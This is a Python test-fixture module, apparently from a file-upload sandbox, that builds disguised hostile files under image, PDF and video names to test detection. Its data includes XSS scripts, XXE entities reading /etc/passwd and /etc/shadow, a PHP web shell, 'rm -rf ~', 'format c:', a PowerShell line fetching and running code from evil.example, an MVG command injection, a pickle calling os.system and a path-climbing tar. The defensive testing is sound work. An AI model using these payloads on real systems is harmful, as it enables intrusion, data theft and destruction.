"""What is no picture, PDF or video at all, whatever its name says: pages, scripts, programs, archives, noise."""

from __future__ import annotations

import gzip
import hashlib
import io
import tarfile
import zipfile

from PIL import Image

from tuidan.sandbox.hostile.kind import HostileFile, sound

SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = "<!DOCTYPE html><html><body><script>fetch('/orders/')</script></body></html>"
TEXTS: dict[str, bytes] = {
    "svg": SVG.encode(),
    "svg with a declaration": b'<?xml version="1.0"?>' + SVG.encode(),
    "svg behind a byte order mark": b"\xef\xbb\xbf" + SVG.encode(),
    "svg in UTF-16": SVG.encode("utf-16"),
    "svg in UTF-16 without a mark": SVG.encode("utf-16-le"),
    "svg behind blank lines": b"\n" * 300 + SVG.encode(),
    "svg behind a comment": b"<!-- " + b"x" * 3000 + b" -->" + SVG.encode(),
    "svg with entities": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
    "svg of many laughs": b'<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;&b;</svg>',
    "svg that draws a foreign page": b"<svg><foreignObject><iframe src='//evil.example'/></foreignObject></svg>",
    "page": HTML.encode(),
    "page in capitals": HTML.upper().encode(),
    "page in UTF-16": HTML.encode("utf-16"),
    "page without a head": b"<body onload=alert(1)>",
    "page of one script": b"<script>alert(1)</script>",
    "page of one frame": b"<iframe src=javascript:alert(1)>",
    "page behind a comment": b"<!-- GIF89a -->" + HTML.encode(),
    "archive of a page": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML.encode(),
    "PHP": b"<?php system($_GET['c']); ?>",
    "JSP": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>',
    "JavaScript": b"alert(document.cookie)//" + b" " * 200,
    "shell script": b"#!/bin/sh\nrm -rf ~\n",
    "Python": b"#!/usr/bin/env python3\nimport os\n",
    "PowerShell": b"Invoke-WebRequest http://evil.example | iex\n",
    "batch file": b"@echo off\r\nformat c:\r\n",
    "Visual Basic": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "internet shortcut": b"[InternetShortcut]\r\nURL=http://evil.example/\r\n",
    "playlist that reads files": b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    "playlist of a list": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "XML with an entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/shadow">]><a>&x;</a>',
    "rich text": b"{\\rtf1{\\object\\objupdate}}",
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
    "MVG of a drawing program": b"push graphic-context\nfill 'url(https://evil.example\"|id\")'\n",
    "XBM": b"#define a_width 8\n#define a_height 8\nstatic char a_bits[] = { 0x00 };\n",
    "subtitles": b"1\n00:00:00,000 --> 00:00:10,000\n<script>alert(1)</script>\n",
    "calendar": b"BEGIN:VCALENDAR\r\nATTACH:file:///c:/windows\r\nEND:VCALENDAR\r\n",
    "letter": b"From: a@b\r\nSubject: x\r\n\r\n" + HTML.encode(),
    "plain words": "充值失败".encode() * 40,
    "one byte": b"\xff",
    "spaces": b" " * 4096,
    "zeros": bytes(4096),
}
STARTS: dict[str, bytes] = {
    "Windows program": b"MZ\x90\0" + bytes(200),
    "Linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
    "macOS program": b"\xcf\xfa\xed\xfe" + bytes(200),
    "Java class": b"\xca\xfe\xba\xbe" + bytes(200),
    "Android code": b"dex\n035\0" + bytes(200),
    "WebAssembly": b"\0asm\x01\0\0\0" + bytes(200),
    "RAR": b"Rar!\x1a\x07\x01\0" + bytes(200),
    "7-Zip": b"7z\xbc\xaf\x27\x1c" + bytes(200),
    "XZ": b"\xfd7zXZ\0" + bytes(200),
    "old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(200),
    "Flash": b"CWS\x0a" + bytes(200),
    "Photoshop": b"8BPS\0\x01" + bytes(200),
    "icon": b"\0\0\x01\0\x01\0" + bytes(200),
    "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
    "HEIC": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200),
    "AVIF": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1" + bytes(200),
    "box of no known brand": b"\0\0\0\x18ftypevil\0\0\0\0evil" + bytes(200),
    "AVI": b"RIFF\xc8\0\0\0AVI LIST" + bytes(200),
    "wave": b"RIFF\xc8\0\0\0WAVEfmt " + bytes(200),
    "MP3": b"ID3\x04\0\0" + bytes(200),
    "Ogg": b"OggS\0\x02" + bytes(200),
    "Flash video": b"FLV\x01\x05" + bytes(200),
    "transport stream": (b"G@\0\x10" + bytes(184)) * 4,
    "metafile": b"\xd7\xcd\xc6\x9a" + bytes(200),
    "disk image": bytes(32_769) + b"CD001" + bytes(200),
    "database": b"SQLite format 3\0" + bytes(200),
    "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
}


def others() -> list[HostileFile]:
    """All of them, each under the name of a picture, a PDF or a video in turn."""
    found = TEXTS | STARTS | _archives() | _foreign_pictures()
    found |= {f"noise {i}": _noise(i) for i in range(8)}
    names = ("proof.jpg", "proof.png", "proof.pdf", "proof.mp4", "proof.webp")
    return [HostileFile(what, names[i % len(names)], data) for i, (what, data) in enumerate(found.items())]


def _noise(seed: int) -> bytes:
    return b"".join(hashlib.sha256(f"noise {seed} {i}".encode()).digest() for i in range(64))


def _archives() -> dict[str, bytes]:
    plain, office, tape = io.BytesIO(), io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(plain, "w") as archive:
        archive.writestr("proof.jpg", sound("jpeg"))
    with zipfile.ZipFile(office, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/vbaProject.bin", "macro")
    with tarfile.open(fileobj=tape, mode="w") as archive_of_tape:
        archive_of_tape.addfile(tarfile.TarInfo("../../etc/cron.d/x"), io.BytesIO())
    return {
        "zip": plain.getvalue(),
        "empty zip": b"PK\x05\x06" + bytes(18),
        "word file with macros": office.getvalue(),
        "tar that climbs": tape.getvalue(),
        "gzip of an svg": gzip.compress(SVG.encode(), mtime=0),
        "bzip2": b"BZh91AY&SY" + bytes(100),
    }


def _foreign_pictures() -> dict[str, bytes]:
    found = {}
    for kind in ("BMP", "TIFF", "ICO", "PCX", "TGA", "PPM"):
        written = io.BytesIO()
        Image.new("RGB", (16, 16), "red").save(written, kind)
        found[f"picture of the kind {kind}"] = written.getvalue()
    return found
